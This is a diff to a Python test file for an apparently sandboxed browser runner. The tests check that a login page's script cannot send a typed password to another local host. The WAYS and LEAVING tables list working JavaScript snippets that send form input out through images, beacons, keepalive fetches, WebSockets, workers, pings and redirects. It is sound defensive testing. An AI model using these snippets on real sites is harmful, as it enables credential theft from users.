@@ -9,6 +9,7 @@ import contextlib
 import gzip
 import os
 import pathlib
+import re
 import resource
 import shutil
 import socket
@@ -169,7 +170,7 @@ def test_a_page_that_never_rests_ends_at_the_time_limit(tmp_path: pathlib.Path, 
             own.answers["/"] = BUSY[name]
             start = time.monotonic()
             with pytest.raises(CollectionError) as caught:
-                runner("browser", tmp_path / name, chromium)(own, timeout=6)
+                runner("browser", tmp_path / name, chromium)(own, timeout=4)
             return caught.value.reason, time.monotonic() - start
 
     for name, (reason, seconds) in at_once(BUSY, visit).items():
@@ -301,62 +302,74 @@ def namespaces(process: str) -> dict[str, str]:
     return {name: os.readlink(f"/proc/{process}/ns/{name}") for name in ("pid", "net")}
 
 
-# How a script of a third party could carry away what was typed; the value is in none of the known spellings.
+# How a script of a third party could carry away what was typed; the value is in none of the known spellings. All of
+# these leave the window where it is, so one page can try them all.
 TAKEN = "Array.from(document.querySelector('[name=p]').value).reverse().join('')"
 WAYS = {
-    "an image": "new Image().src = '{url}/x?' + {taken}",
-    "a script": "const s = document.createElement('script'); s.src = '{url}/x?' + {taken}; document.head.append(s)",
-    "a style sheet": "const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '{url}/x?' + {taken}; "
+    "an image": "new Image().src = '{url}?' + {taken}",
+    "a script": "const s = document.createElement('script'); s.src = '{url}?' + {taken}; document.head.append(s)",
+    "a style sheet": "const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '{url}?' + {taken}; "
     "document.head.append(s)",
-    "a beacon": "navigator.sendBeacon('{url}/x', {taken})",
-    "a beacon at the end": "const v = {taken}; addEventListener('pagehide', () => navigator.sendBeacon('{url}/x', v))",
-    "a fetch that outlives the page": "const v = {taken}; addEventListener('pagehide', () => fetch('{url}/x?' + v, "
+    "a beacon": "navigator.sendBeacon('{url}', {taken})",
+    "a beacon at the end": "const v = {taken}; addEventListener('pagehide', () => navigator.sendBeacon('{url}', v))",
+    "a fetch that outlives the page": "const v = {taken}; addEventListener('pagehide', () => fetch('{url}?' + v, "
     "{{keepalive: true, mode: 'no-cors'}}))",
-    "a WebSocket": "const w = new WebSocket('{ws}/x?' + {taken}); w.onopen = () => w.send({taken})",
-    "a server's events": "new EventSource('{url}/x?' + {taken})",
-    "a frame": "const f = document.createElement('iframe'); f.src = '{url}/x?' + {taken}; document.body.append(f)",
-    "a window": "window.open('{url}/x?' + {taken})",
-    "prefetching": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{url}/x?' + {taken}; "
+    "a WebSocket": "const w = new WebSocket('{ws}?' + {taken}); w.onopen = () => w.send({taken})",
+    "a server's events": "new EventSource('{url}?' + {taken})",
+    "a frame": "const f = document.createElement('iframe'); f.src = '{url}?' + {taken}; document.body.append(f)",
+    "prefetching": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{url}?' + {taken}; "
     "document.head.append(l)",
     "a connection": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{url}'; "
     "document.head.append(l)",
-    "a worker": "const v = {taken}; new Worker(URL.createObjectURL(new Blob(['fetch(\\'{url}/x?' + v + '\\', "
+    "a worker": "const v = {taken}; new Worker(URL.createObjectURL(new Blob(['fetch(\\'{url}?' + v + '\\', "
     "{{mode: \\'no-cors\\'}})'])))",
-    "a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(['fetch(\\'{url}/x?' + v + "
+    "a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(['fetch(\\'{url}?' + v + "
     "'\\', {{mode: \\'no-cors\\'}})'])))",
     "a socket of a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(["
-    "'new WebSocket(\\'{ws}/x?' + v + '\\')'])))",
+    "'new WebSocket(\\'{ws}?' + v + '\\')'])))",
     "a redirect of the site's own": "fetch('/away?' + {taken}, {{mode: 'no-cors'}})",
-    "a ping": "const a = document.createElement('a'); a.href = '#'; a.ping = '{url}/x?' + {taken}; "
+    "a ping": "const a = document.createElement('a'); a.href = '#'; a.ping = '{url}?' + {taken}; "
     "document.body.append(a); a.click()",
-    "another page": "location.href = '{url}/x?' + {taken}",
+}
+LEAVING = {
+    "a window": "window.open('{url}?' + {taken})",
+    "another page": "location.href = '{url}?' + {taken}",
 }
 
 
-def test_nothing_leaves_a_page_with_a_secret_for_another_host(tmp_path: pathlib.Path, chromium: RunningBrowser) -> None:
-    def visit(name: str) -> tuple[str, int, int]:
-        with one_site() as own, one_site("127.0.0.2") as foreign:
-            good_site(own)
-            foreign.answers["/x"] = "x"
-            away = f"{foreign.url}/x?"
-            own.answers["/away"] = lambda request: (302, {"Location": away + request.path.partition("?")[2]}, "")
-            script = WAYS[name].format(url=foreign.url, ws=foreign.url.replace("http", "ws"), taken=TAKEN)
-            own.answers["/"] = (
-                f"<title>Log in</title><script>function take() {{ {script} }}</script>"
-                "<form method=post action=/login><label>Email<input name=e></label>"
-                '<label>Password<input type=password name=p oninput="take()"></label><button>Log in</button></form>'
-            )
-            reason = ""
-            try:
-                runner("browser", tmp_path / name, chromium)(own, timeout=60)
-            except CollectionError as exc:
-                reason = exc.reason
-            assert own.saw("/"), "nobody came"
-            return reason, len(foreign.requests), foreign.connections
+def page_that_tries(ways: dict[str, str], own: Site, foreign: Site) -> None:
+    """Let the sign-in form of a site try these ways to another one as soon as the password is typed."""
+    good_site(own)
+    scripts = []
+    for way, script in ways.items():
+        there = f"{foreign.url}/{re.sub('[^a-z]+', '-', way.lower())}"
+        foreign.answers[there.removeprefix(foreign.url)] = "x"
+        if "/away" in script:
+            own.answers["/away"] = (302, {"Location": there}, "")
+        scripts.append(script.format(url=there, ws=there.replace("http", "ws"), taken=TAKEN))
+    take = " ".join(f"{{ {script} }}" for script in scripts)
+    own.answers["/"] = (
+        f"<title>Log in</title><script>function take() {{ {take} }}</script>"
+        "<form method=post action=/login><label>Email<input name=e></label>"
+        '<label>Password<input type=password name=p oninput="take()"></label><button>Log in</button></form>'
+    )
 
-    for name, (reason, requests, connections) in at_once(WAYS, visit).items():
-        assert reason in ("", "page_changed", "portal_unavailable"), name
-        assert (requests, connections) == (0, 0), name
+
+@pytest.mark.parametrize("ways", [WAYS, *({way: script} for way, script in LEAVING.items())], ids=["staying", *LEAVING])
+def test_nothing_leaves_a_page_with_a_secret_for_another_host(
+    ways: dict[str, str], sites: tuple[Site, Site], in_browser: Run
+) -> None:
+    own, foreign = sites
+    page_that_tries(ways, own, foreign)
+    reason = ""
+    try:
+        in_browser(own, timeout=60)
+    except CollectionError as exc:
+        reason = exc.reason
+    # Where the window stays, the visit goes on to its end: each way had its time.
+    assert reason in (("",) if ways is WAYS else ("", "page_changed", "portal_unavailable"))
+    assert own.saw("/"), "nobody came"
+    assert ([request.path for request in foreign.requests], foreign.connections) == ([], 0)
 
 
 @pytest.fixture
